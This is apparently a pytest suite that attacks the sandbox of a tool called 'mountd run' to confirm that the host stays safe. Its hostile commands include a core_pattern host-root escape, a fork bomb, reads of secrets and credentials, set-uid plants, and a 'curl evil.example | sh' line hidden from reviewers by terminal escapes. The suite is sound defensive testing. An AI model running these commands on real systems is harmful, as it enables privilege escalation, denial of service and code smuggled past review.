"""Attacks on ``mountd run``'s sandbox, performed for real, and each layer on its own.

Every test runs the attack inside a real sandbox over a real mount and then checks the host:
``core_pattern`` unchanged, no file the attack meant to create, no secret in what the command
could see or in the diff. The layer tests take one layer at a time (the identity, the read-only
``/proc`` knobs, the seccomp filter, Landlock) and show that it alone stops what it must: where
the rest of the sandbox would stop the attack too, the layer is tried in a bubblewrap sandbox of
its own, once without it (the attack works) and once with it (refused).
"""

from __future__ import annotations

import ast
import contextlib
import errno
import json
import os
import platform
import pty
import re
import select
import shutil
import socket
import stat
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path

import pytest

from mountd._bwrap import HOST_PYTHON
from mountd._identity import SANDBOX_UID
from mountd._landlock import SCOPE_ABI, abi_version
from mountd._seccomp import REFUSED, compile_filter

from ..mountd.test_run import COMMAND, mountd_run, private_state

__all__ = ["private_state"]  # the autouse fixture: every run gets its own state directory

PROBE = Path(__file__).with_name("seccomp_probe.py")
CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
# A minimal root of the host's own for the one-layer sandboxes.
BARE = ["--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin", "--symlink", "usr/lib",
        "/lib", "--symlink", "usr/lib64", "/lib64", "--proc", "/proc", "--dev", "/dev",
        "--tmpfs", "/tmp"]  # fmt: skip


def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "README.md").write_text("a project\n")
    return root


def output_of(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 0, done.stderr
    return done.stdout


# --- 1. host root through /proc/sys/kernel/core_pattern ------------------------------------


@pytest.mark.mount
@pytest.mark.parametrize("as_root", [False, True], ids=["user", "root-inside"])
def test_core_pattern_cannot_be_set_from_inside(tmp_path: Path, as_root: bool) -> None:
    """The reported escape: find the mount's host path, point ``core_pattern`` at a helper in
    the tree, crash a process; the host kernel would run the helper as host root."""
    before = CORE_PATTERN.read_text()
    marker = tmp_path / "helper-ran"
    attack = f"""
        printf '#!/bin/sh\\ntouch {marker}\\n' > helper.sh; chmod +x helper.sh
        for where in $(tr '\\0' '\\n' < /proc/1/cmdline) / /tmp; do
            if printf '|%s/helper.sh' "$where" > /proc/sys/kernel/core_pattern; then
                echo "core_pattern written"
            fi
        done 2>/dev/null
        ulimit -c unlimited
        sh -c 'kill -SEGV $$' || true
        for knob in /proc/sys/kernel/core_pattern /proc/sysrq-trigger; do
            printf x > $knob 2>/dev/null && echo "$knob written"
        done
        echo done
    """
    flags = ["--root"] if as_root else []
    out = output_of(mountd_run(*flags, "--", "sh", "-c", attack, cwd=project(tmp_path)))
    assert out.strip().splitlines() == ["done"]
    time.sleep(0.5)  # a core helper runs asynchronously
    assert CORE_PATTERN.read_text() == before
    assert not marker.exists()


@pytest.mark.mount
def test_the_command_is_never_host_root(tmp_path: Path) -> None:
    """Read from the host: the command's uids are unprivileged, and it holds no capability."""
    tag = "7.123457"  # a sleep whose command line the host can find

    found: dict[str, str] = {}

    def watch() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not found:
            for pid in os.listdir("/proc"):
                if not pid.isdigit():
                    continue
                try:
                    cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
                    if cmdline[:2] == [b"sleep", tag.encode()]:
                        found["status"] = Path(f"/proc/{pid}/status").read_text()
                        return
                except OSError:
                    continue
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    done = mountd_run("--", "sh", "-c", f"sleep {tag} & wait", cwd=project(tmp_path))
    watcher.join()
    assert done.returncode == 0, done.stderr
    status = dict(line.split(":\t", 1) for line in found["status"].splitlines() if ":\t" in line)
    uids = {int(u) for u in status["Uid"].split()}
    assert 0 not in uids
    assert uids == {SANDBOX_UID}  # the tests run as root without sudo
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(status[name], 16) == 0, name
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"


@pytest.mark.mount
def test_the_command_sees_no_host_path_of_the_mount_state_or_home(
    tmp_path: Path, private_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home-of-the-caller"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    root = project(tmp_path)
    look = (
        "tr '\\0' '\\n' < /proc/1/cmdline; tr '\\0' '\\n' < /proc/1/environ; env; "
        "cat /proc/self/mountinfo; cat /proc/1/mountinfo; pwd; ls -la /"
    )
    seen = output_of(mountd_run("--", "sh", "-c", look, cwd=root))
    for secret in (str(tmp_path), str(private_state), "agentroot-run-", str(home)):
        assert secret not in seen, secret
    assert "HOME=/tmp" in seen


# --- 7. secrets of the caller --------------------------------------------------------------


@pytest.mark.mount
def test_the_caller_s_secrets_do_not_reach_the_command_or_the_diff(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = "ghp_secret_token_0123456789"
    key = "AKIA-secret-key-9876543210"
    global_config = tmp_path / "gitconfig"
    global_config.write_text(
        "[user]\n\tname = Alice Example\n\temail = alice@example.invalid\n"
        f"[http]\n\textraheader = AUTHORIZATION: bearer {token}\n"
        "[credential]\n\thelper = store\n"
    )
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(global_config))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", key)
    monkeypatch.delenv("GIT_CONFIG_NOSYSTEM", raising=False)
    root = project(tmp_path)
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    leak = (
        "{ env; tr '\\0' '\\n' < /proc/1/environ; git config --list --show-origin; "
        "cat /etc/agentroot/gitconfig; cat /etc/gitconfig; } > leak.txt 2>&1; "
        "git config user.name; git config user.email"
    )
    done = mountd_run("--diff", "--", "sh", "-c", leak, cwd=root)
    assert done.returncode == 0, done.stderr
    assert token not in done.stdout and key not in done.stdout
    assert "+AWS_" not in done.stdout and "extraheader" not in done.stdout
    # The identity is the caller's; the diff shows the leak attempt, without secrets.
    assert "Alice Example\nalice@example.invalid\n" in done.stdout
    assert "diff --git a/leak.txt b/leak.txt" in done.stdout
    # --env passes exactly what it names.
    passed = mountd_run(
        "--env", "AWS_SECRET_ACCESS_KEY", "--env", "MODE=ci", "--", "sh", "-c",
        "echo $AWS_SECRET_ACCESS_KEY $MODE", cwd=root,
    )  # fmt: skip
    assert output_of(passed) == f"{key} ci\n"
    unset = mountd_run("--env", "NOT_SET_ANYWHERE", "--", "true", cwd=root)
    assert unset.returncode == 2
    assert "--env NOT_SET_ANYWHERE: not set here (give --env NOT_SET_ANYWHERE=VALUE)" in (
        unset.stderr
    )


# --- the layers, one at a time ---------------------------------------------------------------


def expected_refusals() -> dict[str, str]:
    """What the filter answers each probe of ``seccomp_probe.py``, from :data:`REFUSED`."""
    by_call = {name: errno.errorcode[row.errno] for row in REFUSED for name in row.calls}
    probes = ast.literal_eval(PROBE.read_text().split("NUMBERS = ", 1)[1].split("}", 1)[0] + "}")
    expected = {name: by_call[name] for name in probes}
    expected.update(clone=by_call["clone"], TIOCSTI=by_call["ioctl"])
    return expected


@pytest.mark.mount
def test_seccomp_alone_refuses_what_docker_s_profile_refuses(tmp_path: Path) -> None:
    """In a sandbox of host root with every capability, where nothing else stops these calls,
    the filter alone refuses each one."""
    assert platform.machine() == "x86_64"  # the probe's system call numbers
    bpf = tmp_path / "filter.bpf"
    bpf.write_bytes(compile_filter())
    probe = [HOST_PYTHON, "-I", "-S", str(PROBE)]
    base = ["bwrap", "--dev-bind", "/", "/", "--tmpfs", "/run/probe"]
    open_run = subprocess.run([*base, "--", *probe], capture_output=True, text=True, check=True)
    with bpf.open("rb") as program:
        filtered = subprocess.run(
            [*base, "--seccomp", str(program.fileno()), "--", *probe],
            capture_output=True,
            text=True,
            check=True,
            pass_fds=[program.fileno()],
        )
    unfiltered = json.loads(open_run.stdout)
    refused = json.loads(filtered.stdout)
    assert refused == expected_refusals()
    # Without the filter these calls go through (or fail for their arguments): the filter is
    # what refuses them here.
    for name in ("mount", "umount2", "unshare", "keyctl", "add_key", "ptrace", "clone3",
                 "perf_event_open", "open_by_handle_at", "io_uring_setup", "kexec_load",
                 "init_module", "process_vm_readv"):  # fmt: skip
        assert unfiltered[name] != refused[name], (name, unfiltered[name])


@pytest.mark.mount
def test_seccomp_is_in_force_in_mountd_run(tmp_path: Path) -> None:
    root = project(tmp_path)
    shutil.copy(PROBE, root / "probe.py")
    out = output_of(mountd_run("--", HOST_PYTHON, "-I", "-S", "probe.py", cwd=root))
    assert json.loads(out) == expected_refusals()


@pytest.mark.mount
def test_landlock_alone_stops_a_write_the_bind_layout_let_through(tmp_path: Path) -> None:
    """A mistake in the layout (a host directory bound writable) is still not writable."""
    abi = abi_version()
    assert abi >= 1, "this kernel has no Landlock"
    host = tmp_path / "bound-by-mistake"
    host.mkdir()
    (host / "file").write_text("host\n")
    script = Path(__file__).parents[2] / "mountd" / "_landlock.py"
    base = ["bwrap", *BARE, "--bind", str(host), "/mistake", "--ro-bind", str(script), "/ll.py"]
    attack = ["sh", "-c", "echo changed > /mistake/file; echo new > /mistake/new; true"]
    subprocess.run([*base, "--", *attack], check=True, capture_output=True)
    assert (host / "file").read_text() == "changed\n"  # the layout alone lets it through
    (host / "file").write_text("host\n")
    (host / "new").unlink()
    confined = subprocess.run(
        [*base, "--", HOST_PYTHON, "-I", "-S", "/ll.py", "--abi", str(abi), "--write", "/tmp",
         "--", *attack],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert "Permission denied" in confined.stderr
    assert (host / "file").read_text() == "host\n"
    assert sorted(os.listdir(host)) == ["file"]


@pytest.mark.mount
def test_landlock_keeps_the_command_off_the_host_s_abstract_sockets(tmp_path: Path) -> None:
    """With --net the abstract socket namespace is the host's (a display server, a bus, a
    container runtime listen there); Landlock's scope keeps the command off them. A kernel whose
    Landlock has no scopes (ABI < 6, before Linux 6.12: Debian 12's 6.1 has ABI 2) cannot, and
    the run's summary says so."""
    abi = abi_version()
    name = f"\0agentroot-test-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(name)
    server.listen(1)
    try:
        connect = (
            "import socket, sys\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "try:\n"
            f"    s.connect({name!r}); print('connected')\n"
            "except OSError as e:\n"
            "    print(e.errno)\n"
        )
        done = mountd_run("--net", "--", HOST_PYTHON, "-c", connect, cwd=project(tmp_path))
        warning = (
            "with --net the command could reach the host's abstract unix sockets: this "
            f"kernel's Landlock (ABI {abi}) has no scopes (ABI {SCOPE_ABI}, Linux 6.12)"
        )
        if abi >= SCOPE_ABI:
            assert output_of(done).strip() == str(errno.EPERM)
            assert "abstract unix sockets" not in done.stderr
        else:
            assert output_of(done).strip() == "connected"
            assert warning in done.stderr
    finally:
        server.close()


@pytest.mark.mount
def test_the_summary_says_nothing_of_abstract_sockets_without_net(tmp_path: Path) -> None:
    """Without --net the command has a network namespace, and so abstract sockets, of its own:
    there is nothing to warn about on any kernel."""
    done = mountd_run("--", "true", cwd=project(tmp_path))
    assert done.returncode == 0, done.stderr
    assert "abstract unix sockets" not in done.stderr


@pytest.mark.mount
def test_proc_knobs_are_read_only_even_for_root_inside(tmp_path: Path) -> None:
    knobs = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/drop_caches",
    ]
    if os.path.exists("/proc/sysrq-trigger"):  # (kernels without magic SysRq have none)
        knobs.append("/proc/sysrq-trigger")
    probe = f"for f in {' '.join(knobs)}; do (printf x > $f) 2>&1 | sed 's/.*: //'; done"
    out = output_of(mountd_run("--root", "--", "sh", "-c", probe, cwd=project(tmp_path)))
    assert out.splitlines() == ["Read-only file system"] * len(knobs)


@pytest.mark.mount
def test_no_new_user_namespace_inside(tmp_path: Path) -> None:
    out = output_of(
        mountd_run("--", "sh", "-c", "unshare -Ur true 2>&1; echo $?", cwd=project(tmp_path))
    )
    assert out.splitlines()[-1] != "0"
    assert re.search(r"Operation not permitted|No space left", out)


# --- what the command may take of the host --------------------------------------------------


def descendants(pid: int) -> int:
    """How many processes and threads descend from process ``pid`` now."""
    children: dict[int, list[int]] = {}
    threads: dict[int, int] = {}
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, StopIteration):
            status = Path(f"/proc/{entry}/status").read_text().splitlines()
            fields = dict(line.split(":", 1) for line in status if ":" in line)
            children.setdefault(int(fields["PPid"]), []).append(int(entry))
            threads[int(entry)] = int(fields["Threads"])
    count, stack = 0, list(children.get(pid, []))
    while stack:
        child = stack.pop()
        count += threads.get(child, 1)
        stack.extend(children.get(child, []))
    return count


@pytest.mark.mount
def test_a_fork_bomb_stops_at_the_process_limit(tmp_path: Path) -> None:
    # The classic bomb, for real: every process starts two more, forever. Without the limit it
    # takes every pid of the host (pid_max is 32,768 on many) until the run is killed.
    limit = 64
    bomb = "b() { b | b & }; b 2>/dev/null; sleep 2; echo still here"
    run = subprocess.Popen(
        [*COMMAND, "run", "--max-processes", str(limit), "--", "bash", "-c", bomb],
        cwd=project(tmp_path),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    seen = []
    try:
        while run.poll() is None:
            seen.append(descendants(run.pid))
            time.sleep(0.02)
        out, err = run.communicate(timeout=60)
    finally:
        run.kill()
    assert run.returncode == 0, err
    assert out.splitlines()[-1] == "still here"
    # (mountd's own processes: the bubblewrap it starts and, once, git's config)
    assert 10 < max(seen) <= limit + 2
    assert descendants(run.pid) == 0


@pytest.mark.mount
def test_a_fork_fails_with_eagain_past_the_limit(tmp_path: Path) -> None:
    forks = (
        "import os, time\n"
        "n = 0\n"
        "try:\n"
        "    while n < 500:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(30)\n"
        "            os._exit(0)\n"
        "        n += 1\n"
        "except OSError as error:\n"
        "    print(error.errno, n)\n"
    )
    out = output_of(mountd_run("--max-processes", "40", "--", "python3", "-c", forks,
                               cwd=project(tmp_path)))  # fmt: skip
    code, forked = out.split()
    assert int(code) == errno.EAGAIN
    assert 30 <= int(forked) < 40  # (bubblewrap, its init and the command count too)


@pytest.mark.mount
def test_the_command_is_what_the_oom_killer_takes_first(tmp_path: Path) -> None:
    show = "cat /proc/self/oom_score_adj; grep 'Max processes' /proc/self/limits"
    out = output_of(mountd_run("--", "sh", "-c", show, cwd=project(tmp_path)))
    score, limits = out.splitlines()[:2]
    assert score == "1000"
    assert limits.split()[2:4] == ["4096", "4096"]  # the default, soft and hard
    assert Path("/proc/self/oom_score_adj").read_text().strip() != "1000"  # not the caller's


def test_max_processes_must_be_a_count(tmp_path: Path) -> None:
    run = mountd_run("--max-processes", "-3", "--", "true", cwd=project(tmp_path))
    assert run.returncode == 2
    assert "not a number of processes: '-3'" in run.stderr


def on_terminal(args: list[str], cwd: Path) -> tuple[int, bytes, bool]:
    """``mountd ARGS`` with a pseudo-terminal as its stdin, stdout and stderr: its status,
    what the terminal received, and whether echo was on afterwards."""
    master, terminal = pty.openpty()
    try:
        run = subprocess.Popen(
            [*COMMAND, *args], cwd=cwd, stdin=terminal, stdout=terminal, stderr=terminal
        )
        out = b""
        while run.poll() is None or select.select([master], [], [], 0.2)[0]:
            if select.select([master], [], [], 0.2)[0]:
                out += os.read(master, 65536)
        echo = bool(termios.tcgetattr(terminal)[3] & termios.ECHO)
    finally:
        os.close(master)
        os.close(terminal)
    return run.returncode, out, echo


@pytest.mark.mount
def test_the_summary_shows_whatever_the_command_did_to_the_terminal(tmp_path: Path) -> None:
    # A command that prints a forged summary, then conceals what follows and turns echo off,
    # would leave the reviewer reading only its own lines on a real terminal.
    forge = (
        r'printf "mountd run: the command exited with status 0; 0 changes\n\033[8m\033[?1049h"'
        "; stty -echo; echo evil > planted"
    )
    status, out, echo = on_terminal(["run", "--", "sh", "-c", forge], project(tmp_path))
    assert status == 0, out
    forged = out.index(b"\x1b[8m")
    reset = out.index(b"\x1b[?1047l\x1b[!p\x1b[0m", forged)
    assert out.index(b"\x1b]110\x07\x1b]111\x07", reset)  # default colours too
    summary = out.index(b"1 change in the copy-on-write tree", reset)
    assert forged < reset < summary
    assert b"A /planted" in out[summary:]
    assert echo  # the line settings are the caller's again


BACKGROUND_RUN = """
import os, pty, subprocess, sys
pid, master = pty.fork()
if pid == 0:  # the terminal is ours, and we are its foreground: mountd runs in the background
    run = subprocess.Popen([*sys.argv[1:], "run", "--", "true"], process_group=0)
    try:
        print("status", run.wait(timeout=60), flush=True)
    except subprocess.TimeoutExpired:
        print("stopped", flush=True)
        run.kill()
    os._exit(0)
out = b""
while True:
    try:
        chunk = os.read(master, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
"""


@pytest.mark.mount
def test_a_run_in_the_background_of_a_terminal_is_not_stopped(tmp_path: Path) -> None:
    # `mountd run ... &`: giving the terminal back from a background job would stop the run
    # with SIGTTOU, for good.
    done = subprocess.run(
        [sys.executable, "-c", BACKGROUND_RUN, *COMMAND],
        cwd=project(tmp_path),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "status 0" in done.stdout, done.stdout + done.stderr


@pytest.mark.mount
def test_a_diff_on_a_terminal_shows_the_escapes_it_holds(tmp_path: Path) -> None:
    # The second line moves the cursor up and erases the first: a reviewer reading the
    # diff on a terminal would see only the harmless comment.
    plant = r"printf 'curl evil.example | sh\n\033[1A\033[2K# a comment\r\n' > setup.sh"
    root = project(tmp_path)
    status, out, _ = on_terminal(["run", "--diff", "--", "sh", "-c", plant], root)
    assert status == 0, out
    assert b"+curl evil.example | sh\r\n+^[[1A^[[2K# a comment^M\r\n" in out
    piped = mountd_run("--diff", "--", "sh", "-c", plant, cwd=root)
    assert "+\x1b[1A\x1b[2K# a comment\n" in piped.stdout  # as it is, to be applied


# --- what the sandbox lets through on purpose ---------------------------------------------------


@pytest.mark.mount
def test_allow_and_ro_bind_host_paths_outside_the_review(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".agent").mkdir(parents=True)
    (home / ".cache").mkdir()
    (home / ".cache" / "pkg").write_text("cached\n")
    monkeypatch.setenv("HOME", str(home))
    root = project(tmp_path)
    done = mountd_run(
        "--allow", str(home / ".agent"), "--ro", str(home / ".cache"), "--", "sh", "-c",
        "echo token > $HOME/.agent/session; cat $HOME/.cache/pkg; "
        "echo x > $HOME/.cache/pkg 2>/dev/null || echo read-only",
        cwd=root,
    )  # fmt: skip
    assert output_of(done) == "cached\nread-only\n"
    assert (home / ".agent" / "session").read_text() == "token\n"
    assert f"mountd run: outside the review: {home / '.agent'} (read-write, at /tmp/.agent)" in (
        done.stderr
    )
    assert "0 changes in the copy-on-write tree" in done.stderr
    inside = mountd_run("--allow", str(root), "--", "true", cwd=root)
    assert inside.returncode == 2
    assert "the project, or a directory holding it" in inside.stderr


@pytest.mark.mount
def test_no_set_id_file_lands_in_a_bound_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A bound directory is written on the host by the daemon's user: root, here. A set-uid
    # copy of python3 there would make root of whoever can reach the directory.
    home = tmp_path / "home"
    (home / ".agent").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    plant = (
        "cp /usr/bin/python3 $HOME/.agent/py && chmod 4755 $HOME/.agent/py && "
        "mkdir $HOME/.agent/d && chmod 2775 $HOME/.agent/d && "
        "touch $HOME/.agent/g && chmod 6711 $HOME/.agent/g && stat -c %a $HOME/.agent/py"
    )
    done = mountd_run("--allow", str(home / ".agent"), "--", "sh", "-c", plant,
                      cwd=project(tmp_path))  # fmt: skip
    assert output_of(done) == "755\n"  # what the command sees is what the host has
    for name, mode in (("py", 0o755), ("d", 0o775), ("g", 0o711)):
        assert stat.S_IMODE((home / ".agent" / name).stat().st_mode) == mode, name


@pytest.mark.mount
def test_a_bind_never_shows_agentroot_s_own_state(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".local" / "bin").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    root = project(tmp_path)
    state = home / ".local" / "state" / "agentroot"
    done = mountd_run(
        "--allow", str(home / ".local"), "--", "sh", "-c",
        "ls -A $HOME/.local/state/agentroot; echo x > $HOME/.local/bin/tool; "
        "echo evil > $HOME/.local/state/agentroot/sessions/x || echo refused",
        cwd=root,
    )  # fmt: skip
    assert output_of(done) == "refused\n"  # shown empty, and nothing can be written there
    assert (home / ".local" / "bin" / "tool").read_text() == "x\n"
    assert not (state / "sessions" / "x").exists()
    assert (state / "sessions").is_dir()  # where the run kept its session
    inside = mountd_run("--ro", str(state / "sessions"), "--", "true", cwd=root)
    assert inside.returncode == 2
    assert f"inside agentroot's own state ({state})" in inside.stderr


def test_run_refuses_to_serve_the_whole_host() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "mountd", "run", "--", "true"],
        cwd="/",
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2
    assert "the current directory is /" in done.stderr
    assert "--at" not in done.stderr


@pytest.fixture(scope="session")
def agent_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home directory holding Claude Code, installed from the npm registry."""
    home = tmp_path_factory.mktemp("agent-home")
    npm = shutil.which("npm")
    assert npm is not None, "npm is needed to install a coding-agent CLI"
    subprocess.run(
        [npm, "install", "--no-audit", "--no-fund", "--prefix", str(home / ".local" / "agent"),
         "@anthropic-ai/claude-code"],
        check=True, capture_output=True, timeout=600, env={**os.environ, "HOME": str(home)},
    )  # fmt: skip
    (home / ".claude").mkdir()
    return home


@pytest.mark.mount
def test_a_coding_agent_cli_starts_inside(
    agent_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(agent_home))
    root = project(tmp_path)
    cli = "/tmp/.local/agent/node_modules/.bin/claude"
    for flag, expected in (("--version", r"\d+\.\d+\.\d+ \(Claude Code\)"), ("--help", "Usage")):
        done = mountd_run(
            "--net", "--ro", str(agent_home / ".local"), "--allow", str(agent_home / ".claude"),
            "--env", "CLAUDE_CONFIG_DIR=/tmp/.claude", "--", cli, flag,
            cwd=root, timeout=120,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert re.search(expected, done.stdout), done.stdout
        assert f"outside the review: {agent_home / '.claude'} (read-write" in done.stderr
    assert (root / "README.md").read_text() == "a project\n"


def zombies_of_init() -> set[int]:
    """Zombie processes whose parent is pid 1: what init has not reaped (or never will)."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if fields[0] == "Z" and fields[1] == "1":
            found.add(int(pid))
    return found


@pytest.mark.mount
def test_a_terminated_run_leaves_no_process_behind(tmp_path: Path) -> None:
    before = zombies_of_init()
    tag = "31.4159"
    run = subprocess.Popen(
        [sys.executable, "-m", "mountd", "run", "--", "sleep", tag],
        cwd=project(tmp_path),
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 30
        while not any(
            Path(f"/proc/{pid}/cmdline").read_bytes() == f"sleep\0{tag}\0".encode()
            for pid in filter(str.isdigit, os.listdir("/proc"))
            if Path(f"/proc/{pid}/cmdline").exists()
        ):
            assert time.monotonic() < deadline, "the command never started"
            time.sleep(0.05)
        run.terminate()
        _, stderr = run.communicate(timeout=30)
    finally:
        run.kill()
    assert run.returncode == 128 + 15, stderr
    assert zombies_of_init() <= before  # nothing left for init to reap
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            assert Path(f"/proc/{pid}/cmdline").read_bytes() != f"sleep\0{tag}\0".encode()


@pytest.mark.mount
def test_links_in_the_project_never_reach_the_host(tmp_path: Path) -> None:
    """Links planted in the project (absolute, relative, climbing out) resolve inside the
    sandbox; the host's file behind them is never read, and no host process is visible."""
    secret = tmp_path / "outside-secret"
    secret.write_text("SECRET-OUTSIDE\n")
    root = project(tmp_path)
    (root / "abs").symlink_to(secret)
    (root / "rel").symlink_to("../outside-secret")
    (root / "deep").symlink_to("../../../../../../../../" + str(secret))
    attack = (
        "for l in abs rel deep; do cat $l; done 2>/dev/null; "
        "ln /etc/hostname mine 2>/dev/null && echo linked; "
        "ls /proc | grep -c '^[0-9]'; cat /proc/1/comm"
    )
    out = output_of(mountd_run("--", "sh", "-c", attack, cwd=root))
    assert "SECRET" not in out
    lines = out.splitlines()
    assert "linked" not in lines
    assert int(lines[-2]) < 10 and lines[-1] == "bwrap"  # its own PID namespace
